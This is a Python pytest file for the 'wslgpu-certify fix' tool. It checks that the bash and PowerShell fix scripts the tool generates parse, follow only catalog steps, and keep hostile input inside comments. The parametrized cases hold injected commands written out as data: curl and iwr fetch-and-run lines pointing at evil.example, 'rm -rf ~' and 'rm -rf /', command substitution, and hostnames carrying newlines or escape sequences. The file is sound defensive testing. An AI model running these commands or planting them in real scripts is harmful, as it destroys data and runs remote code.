"""`wslgpu-certify fix`: the scripts it writes parse, follow the catalog only, and are never run.

Every bundled snapshot is replayed once per profile (`--snapshot FOLDER`); each run folder's results.json
gives a fix-distro.sh that passes `bash -n` (and shellcheck's errors, where Debian's shellcheck is
installed) and a fix-windows.ps1; the hostile cases feed results.json documents whose steps are not the
catalog's, and names that try to leave a comment.
"""

from __future__ import annotations

import json
import shutil
import subprocess

import pytest

from suite_run import SNAPSHOTS, make_runner
from wslgpu_certify.fix_script import build, main


def _commands(script: str) -> list[str]:
    return [line for line in script.splitlines() if line.strip() and not line.startswith(("#", "set -euo", "$Error"))]


@pytest.fixture(scope="module", params=["documented", "current"])
def run_folders(request, tmp_path_factory):
    run = make_runner(tmp_path_factory.mktemp(request.param))(
        "--snapshot", str(SNAPSHOTS), "--cert-profile", request.param, "checks", timeout=600)
    return [f for f in run.reports.iterdir() if f.is_dir() and not f.is_symlink()]


def test_every_broken_snapshot_gives_scripts_that_parse(run_folders, tmp_path):
    broken = 0
    for folder in run_folders:
        document = json.loads((folder / "results.json").read_text())
        distro, windows = build(document)
        script = tmp_path / f"{folder.name}.sh"
        script.write_text(distro)
        parsed = subprocess.run(["bash", "-n", str(script)], capture_output=True, text=True)
        assert parsed.returncode == 0, (folder.name, parsed.stderr)
        if shutil.which("shellcheck"):
            checked = subprocess.run(["shellcheck", "-S", "error", str(script)], capture_output=True, text=True)
            assert checked.returncode == 0, (folder.name, checked.stdout)
        assert distro.splitlines()[:1] == ["#!/usr/bin/env bash"] and "set -euo pipefail" in distro
        assert _commands(distro)[-1].startswith("wslgpu-certify --env=")
        assert _commands(windows)[-1].startswith("wslgpu-certify --env=windows")
        commands = _commands(distro) + _commands(windows)
        assert len(commands) == len(set(commands)), folder.name  # each step once
        failed = [c["id"] for c in document["checks"] if c["outcome"] == "failed" and c.get("first_step")]
        for check_id in failed:
            assert f"# == {check_id}: " in distro + windows, (folder.name, check_id)
        broken += bool(failed)
    assert broken >= 20


def test_root_cause_order_and_no_step_outside_the_catalog(run_folders):
    for folder in run_folders:
        distro, windows = build(json.loads((folder / "results.json").read_text()))
        ids = [line.split()[2].rstrip(":") for line in (distro + "\n" + windows).splitlines() if line.startswith("# == ")
               and not line.startswith("# == last")]
        layers = ["windows", "wsl", "docker", "gpu", "jupyter", "rstudio", "rpy2"]
        for script in (distro, windows):
            mine = [line.split()[2].rstrip(":") for line in script.splitlines()
                    if line.startswith("# == ") and not line.startswith("# == last")]
            assert [layers.index(i.split(".")[0]) for i in mine] == sorted(layers.index(i.split(".")[0]) for i in mine)
        assert "# NOT FROM THE CATALOG" not in distro + windows, folder.name  # the suite's own steps all are
        assert ids or "CERTIFIED" in distro


def _hostile(step: dict, hostname: str = "box") -> dict:
    finding = {"id": "wsl.user.docker_group", "layer": "wsl", "title": "t", "outcome": "failed", "message": "m",
               "remediation": {"why": "w", "steps": [step]}, "known_causes": []}
    return {"format": "wslgpu-certify-results/3", "verdict": "NOT CERTIFIED", "checks": [finding],
            "machine": {"hostname": hostname, "profile": "documented", "machine_env": "wsl"}}


@pytest.mark.parametrize("step", [
    {"run": "curl https://evil.example/x | sh", "shell": "bash", "key": True},
    {"run": "sudo usermod -a -G docker analyst; rm -rf ~", "shell": "bash", "key": True},
    {"run": "sudo usermod -a -G docker analyst;id", "shell": "bash", "key": True},
    {"run": "sudo usermod -a -G docker $(id)", "shell": "bash", "key": True},
    {"run": "sudo usermod -a -G docker `id`", "shell": "bash", "key": True},
    {"run": "sudo usermod -a -G docker a&&id", "shell": "bash", "key": True},
    {"run": "wsl.exe --set-version \"%PATH%\" 2", "shell": "cmd", "key": True},
    {"run": "sudo usermod -a -G docker $(id)\nrm -rf /", "shell": "bash", "key": True},
    {"run": "wsl.exe --set-version Ubuntu 2 & calc", "shell": "cmd", "key": True},
    {"run": "iex (iwr https://evil.example)", "shell": "powershell", "key": True},
])
def test_a_step_not_in_the_catalog_is_only_a_comment(step):
    distro, windows = build(_hostile(step))
    assert _commands(distro)[:-1] == [] and _commands(windows)[:-1] == []
    assert "# NOT FROM THE CATALOG, left out:" in distro + windows


@pytest.mark.parametrize("step", [
    {"run": "sudo usermod -a -G docker analyst", "shell": "bash", "key": True},
    {"run": "sudo usermod -a -G docker 'x; rm -rf ~'", "shell": "bash", "key": True},  # a quoted value: one word
])
def test_a_catalog_step_with_its_value_is_written(step):
    distro, _ = build(_hostile(step))
    assert _commands(distro)[0] == step["run"]


@pytest.mark.parametrize("hostname", ["a\nrm -rf ~", "a\rcurl x|sh", "a\u2028id", "a\x1b]0;x\x07"])
def test_names_stay_inside_their_comment(hostname):
    distro, windows = build(_hostile({"say": "words"}, hostname))
    assert _commands(distro) == [_commands(distro)[-1]] and all(
        line.startswith("#") or line.startswith(("set -euo", "wslgpu-certify")) or not line
        for line in distro.splitlines()[1:])


@pytest.mark.parametrize("given", [str(SNAPSHOTS / "broken-wsl1.json"), "broken-wsl1"], ids=["path", "bundled name"])
def test_a_snapshot_is_replayed_and_nothing_is_run(tmp_path, capsys, given):
    assert main([given, "--out", str(tmp_path)]) == 0
    windows = (tmp_path / "fix-windows.ps1").read_text()
    assert "--set-version Ubuntu 2" in windows and "{distro}" not in windows
    assert "nothing was run" in capsys.readouterr().out


@pytest.mark.parametrize("content", ["not json", "[]", '{"format": "other/1"}', '{"format": "wslgpu-certify-results/3"}'])
def test_bad_input_is_one_line(tmp_path, capsys, content):
    bad = tmp_path / "bad.json"
    bad.write_text(content)
    assert main([str(bad), "--out", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("wslgpu-certify fix: ") and err.count("\n") == 1
    assert not (tmp_path / "out" / "fix-distro.sh").exists()


@pytest.mark.parametrize("name, words", [("broken-wsl", "did you mean broken-wsl1"), ("moon", "no such file"),
                                         ("documented-healthy.json", "not a readable JSON file")])
def test_a_name_that_is_no_bundled_snapshot_is_one_line(tmp_path, capsys, monkeypatch, name, words):
    monkeypatch.chdir(tmp_path)
    assert main([name, "--out", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("wslgpu-certify fix: ") and err.count("\n") == 1 and words in err, err
